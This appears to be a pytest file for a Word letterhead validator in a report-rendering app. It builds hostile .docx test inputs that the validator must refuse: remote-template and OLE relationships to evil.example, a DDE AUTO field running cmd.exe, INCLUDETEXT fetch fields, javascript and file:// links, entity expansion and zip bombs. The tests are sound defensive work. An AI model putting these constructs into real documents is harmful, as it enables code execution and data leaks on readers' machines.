"""An institution's letterhead carries the report as it would a letter; nothing that acts comes along."""

import io
import zipfile

import docx
import pytest
from docx.shared import Cm, Pt

from app.core.words import Incomplete
from app.reports.choices import Choices
from app.reports.render import letterhead as rules
from app.reports.render.docx import render_docx
from app.reports.render.letterhead import judge_letterhead
from tests.reports.reading import W, Word, parts_of, plain
from tests.reports.samples import lines_of, meeting

MAIN = "word/document.xml"
RELATED = "word/_rels/document.xml.rels"
TYPES = "[Content_Types].xml"


def institution() -> bytes:
    """A Word file as an institution has it: its own paper, header, footer and styles, and a letter on it."""
    document = docx.Document()
    section = document.sections[0]
    section.page_width, section.left_margin = Cm(20), Cm(4)
    section.header.paragraphs[0].text = "PORT AUTHORITY OF EXAMPLE"
    section.footer.paragraphs[0].text = "Quay 1, Port Example"
    document.styles["Heading 1"].font.size = Pt(33)
    document.add_paragraph("Dear Sir, the old letter.", style="List Number")
    document.core_properties.author = "A former clerk"
    return saved(document)


def saved(document: docx.document.Document) -> bytes:
    packed = io.BytesIO()
    document.save(packed)
    return packed.getvalue()


def changed(content: bytes, **changes: bytes | None) -> bytes:
    """The package with parts replaced, added or, where None is given, left out."""
    parts = parts_of(content) | {name.replace("__", "/"): part for name, part in changes.items()}
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as package:
        for name, part in parts.items():
            if part is not None:
                package.writestr(name, part)
    return packed.getvalue()


def replaced(name: str, old: bytes, new: bytes) -> bytes:
    content = institution()
    part = parts_of(content)[name]
    assert old in part
    return changed(content, **{name: part.replace(old, new, 1)})


@pytest.mark.parametrize("lang", ["en", "ar", "zh"])
def test_the_report_stands_on_the_institutions_paper(lang: str) -> None:
    report = meeting(lang)
    content = render_docx(report, Choices(letterhead=institution(), sources={}))
    document = docx.Document(io.BytesIO(content))
    section = document.sections[0]
    assert section.header.paragraphs[0].text == "PORT AUTHORITY OF EXAMPLE"
    assert section.footer.paragraphs[0].text == "Quay 1, Port Example"
    assert round(section.page_width.cm, 1) == 20.0
    assert round(section.left_margin.cm, 1) == 4.0
    assert document.styles["Heading 1"].font.size == Pt(33)
    assert document.styles["Numbered Paragraph"]
    word = Word(content)
    shown, expected = word.lines(), [plain(line) for line in lines_of(report)]
    start = shown.index(expected[0])
    assert shown[start : start + len(expected)] == expected
    assert word.footnotes()
    assert word.tables()


def test_the_direction_of_a_section_stands_before_its_gutter() -> None:
    paper = replaced(MAIN, b"<w:docGrid", b"<w:rtlGutter/><w:docGrid")
    word = Word(render_docx(meeting("ar"), Choices(letterhead=paper)))
    setup = [each.tag.removeprefix(W) for each in word.body.find(f"{W}sectPr")]
    assert setup[-3:] == ["bidi", "rtlGutter", "docGrid"]


def test_nothing_of_the_old_letter_comes_along() -> None:
    parts = parts_of(render_docx(meeting("en"), Choices(letterhead=institution())))
    for part in parts.values():
        assert b"Dear Sir" not in part
        assert b"former clerk" not in part
    assert not [name for name in parts if "thumbnail" in name or "customXml" in name]


def test_a_list_of_the_institution_keeps_its_own_numbers() -> None:
    word = Word(render_docx(meeting("en"), Choices(letterhead=institution())))
    theirs = word.styles["ListNumber"].find(f"{W}pPr/{W}numPr/{W}numId").get(f"{W}val")
    used = {word.numbered(paragraph)[0] for paragraph in word.body.findall(f"{W}p")}
    assert theirs in word.lists
    assert theirs not in used


def test_a_level_and_a_style_name_each_other_or_neither_does() -> None:
    word = Word(render_docx(meeting("en"), Choices(letterhead=institution())))
    for key, abstract in word.abstract.items():
        for linked in abstract.iter(f"{W}pStyle"):
            number = word.styles[linked.get(f"{W}val")].find(f"{W}pPr/{W}numPr/{W}numId")
            assert word.lists[number.get(f"{W}val")] == key


def test_the_same_report_on_the_same_paper_gives_the_same_bytes() -> None:
    choices = Choices(letterhead=institution(), sources={})
    assert render_docx(meeting("en"), choices) == render_docx(meeting("en"), choices)


def test_our_own_file_can_be_the_letterhead() -> None:
    ours = render_docx(meeting("ar"), Choices(sources={"P1.1": "of the old report"}))
    word = Word(render_docx(meeting("en"), Choices(letterhead=ours, sources={})))
    expected = [plain(line) for line in lines_of(meeting("en"))]
    shown = word.lines()
    start = shown.index(expected[0])
    assert shown[start : start + len(expected)] == expected
    assert "مصابيح" not in "".join(shown)
    assert not [name for name, part in word.parts.items() if b"of the old report" in part]


def external(kind: str, target: str = "https://evil.example/x", mode: str = "External") -> bytes:
    line = (
        '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        f'{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
    )
    return replaced(RELATED, b"</Relationships>", line.encode())


R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'


def headed(element: str, kind: str = "hyperlink", target: str = "https://port.example/") -> bytes:
    """A header with an element that names, as rId1, something outside the file."""
    relationships = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        f'{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    )
    content = replaced("word/header1.xml", b"</w:p>", f"{element}</w:p>".encode())
    return changed(content, **{"word/_rels/header1.xml.rels": relationships.encode()})


def whole_field(instruction: str) -> str:
    def char(kind: str) -> str:
        return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'

    told = "".join(
        char("begin") + f"<w:r><w:instrText>{words}</w:instrText></w:r>" for words in instruction.split("{")
    )
    return told + char("end") * (instruction.count("{") + 1)


LINK = f'<w:hyperlink {R} r:id="rId1"><w:r><w:t>port.example</w:t></w:r></w:hyperlink>'
INNOCENT = {
    "a web address": headed(LINK),
    "a mail address": headed(LINK, target="mailto:port@port.example"),
    "a picture to click on": headed(
        f'<a:hlinkClick xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" {R} r:id="rId1"/>'
    ),
    "a field with an address": headed(whole_field(' HYPERLINK "https://port.example/ask" \\o "Ask" ')),
    "a page number": headed(whole_field(" PAGE ")),
}


def field(instruction: str) -> bytes:
    half = len(instruction) // 2
    runs = "".join(
        f"<w:r><w:instrText>{p}</w:instrText></w:r>" for p in (instruction[:half], instruction[half:])
    )
    return replaced("word/footer1.xml", b"</w:p>", f"{runs}</w:p>".encode())


def renamed() -> bytes:
    """A footer with a field that fetches, in a part whose name does not say what it is."""
    parts = parts_of(field(' INCLUDETEXT "https://evil.example/x" '))
    declared = {name: parts[name].replace(b"footer1.xml", b"footer1.dat") for name in (TYPES, RELATED)}
    moved = {"word/footer1.xml": None, "word/footer1.dat": parts["word/footer1.xml"]}
    return changed(institution(), **declared, **moved)


def bomb() -> bytes:
    return changed(institution(), **{"word/media/x.xml": b"<a/>" + b" " * (rules.MOST_BYTES + 1)})


def lying() -> bytes:
    """A package whose table says that a part is smaller than it is."""
    content = bytearray(bomb())
    place = content.index(b"word/media/x.xml", content.index(b"PK\x01\x02"))
    content[place - 46 + 24 : place - 46 + 28] = (100).to_bytes(4, "little")
    return bytes(content)


def locked() -> bytes:
    content = bytearray(institution())
    place = content.index(b"PK\x01\x02")
    while place != -1:
        content[place + 8] |= 1
        place = content.find(b"PK\x01\x02", place + 4)
    return bytes(content)


ENTITIES = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]>'
NOT_WORD, ACTIVE, OUTSIDE = "not a Word file", "macros", "outside"
TYPE = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
ABUSES = {
    "nothing": (b" ", NOT_WORD),
    "a text": (b"Dear Sir", NOT_WORD),
    "a picture": (b"\x89PNG\r\n\x1a\n" + b"0" * 100, NOT_WORD),
    "an old or locked Word file": (rules.ENCRYPTED + b"0" * 600, "password"),
    "half a file": (institution()[:2000], NOT_WORD),
    "another package": (changed(b"PK\x05\x06" + b"\0" * 18, **{"a.txt": b"a"}), NOT_WORD),
    "a template": (replaced(TYPES, TYPE, TYPE.replace(b"document.main", b"template.main")), NOT_WORD),
    "a spreadsheet": (replaced(TYPES, TYPE, b"application/x-spreadsheet"), NOT_WORD),
    "macros by type": (
        replaced(TYPES, TYPE, b"application/vnd.ms-word.document.macroEnabled.main+xml"),
        ACTIVE,
    ),
    "macros by part": (changed(institution(), **{"word/vbaProject.bin": b"0"}), ACTIVE),
    "an embedded object": (changed(institution(), **{"word/embeddings/x.docx": b"0"}), ACTIVE),
    "a remote template": (external("attachedTemplate"), OUTSIDE),
    "a remote picture": (external("image"), OUTSIDE),
    "a remote part of a document": (external("subDocument"), OUTSIDE),
    "a remote frame": (external("frame"), OUTSIDE),
    "a remote object": (external("oleObject"), OUTSIDE),
    "an address on the reader's own disk": (external("hyperlink", "file:///c:/cmd.exe"), OUTSIDE),
    "an address on a server of files": (external("hyperlink", "\\\\evil\\share"), OUTSIDE),
    "an address that is a script": (external("hyperlink", "javascript:alert(1)"), OUTSIDE),
    "a picture that calls itself a link": (
        headed(
            f'<a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" {R} r:link="rId1"/>'
        ),
        OUTSIDE,
    ),
    "a part of a document that calls itself a link": (headed(f'<w:subDoc {R} r:id="rId1"/>'), OUTSIDE),
    "a drawing with a picture by its address": (
        headed('<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="https://evil.example/x.png"/>'),
        OUTSIDE,
    ),
    "a page of the web within": (external("aFChunk", "/word/x.html", "Internal"), ACTIVE),
    "a field with an address in which another fetches": (
        headed(whole_field(' HYPERLINK "https://{ INCLUDEPICTURE evil.example" ')),
        ACTIVE,
    ),
    "a field with an address of a file": (headed(whole_field(' HYPERLINK "file:///c:/cmd.exe" ')), ACTIVE),
    "a field that fetches": (field(' INCLUDETEXT "\\\\\\\\evil\\\\x" '), ACTIVE),
    "a field in a part by another name": (renamed(), NOT_WORD),
    "a field that runs": (field(" D D E AUTO c:\\cmd.exe "), ACTIVE),
    "entities": (replaced(MAIN, b"<w:document", ENTITIES + b"<w:document"), NOT_WORD),
    "entities in UTF-16": (
        changed(institution(), **{"word/x.xml": f"{ENTITIES.decode()}<x/>".encode("utf-16")}),
        NOT_WORD,
    ),
    "broken XML": (replaced(MAIN, b"<w:body>", b"<w:body"), NOT_WORD),
    "a bomb": (bomb(), "too large"),
    "a bomb that lies": (lying(), NOT_WORD),
    "a thousand parts": (
        changed(institution(), **{f"x{n}.txt": b"" for n in range(rules.MOST_PARTS)}),
        "too large",
    ),
    "locked parts": (locked(), NOT_WORD),
    "one part twice": (changed(institution(), **{"WORD/Document.xml": b"<x/>"}), NOT_WORD),
}


@pytest.mark.parametrize("abuse", ABUSES)
def test_whatever_is_not_plainly_a_letterhead_is_refused_in_a_sentence(abuse: str) -> None:
    content, said = ABUSES[abuse]
    with pytest.raises(Incomplete, match=said) as refused:
        judge_letterhead(content)
    assert refused.value.field == "letterhead"


def test_nothing_is_written_on_paper_that_was_not_judged() -> None:
    with pytest.raises(Incomplete):
        render_docx(meeting("en"), Choices(letterhead=external("attachedTemplate")))


def test_a_file_without_its_text_is_no_letterhead() -> None:
    with pytest.raises(Incomplete, match=NOT_WORD):
        render_docx(meeting("en"), Choices(letterhead=changed(institution(), **{MAIN: None})))


def test_a_plain_one_is_not() -> None:
    judge_letterhead(institution())


@pytest.mark.parametrize("named", INNOCENT)
def test_an_address_to_click_on_is_no_harm_and_stays(named: str) -> None:
    written = parts_of(render_docx(meeting("en"), Choices(letterhead=INNOCENT[named])))
    judge_letterhead(INNOCENT[named])
    if "address" in named:
        assert b"port.example" in b"".join(part for name, part in written.items() if "header1" in name)


def test_a_file_without_any_set_up_is_paper_too() -> None:
    bare = changed(
        institution(), **{MAIN: f'<w:document xmlns:w="{W[1:-1]}"><w:body/></w:document>'.encode()}
    )
    assert Word(render_docx(meeting("en"), Choices(letterhead=bare))).lines()
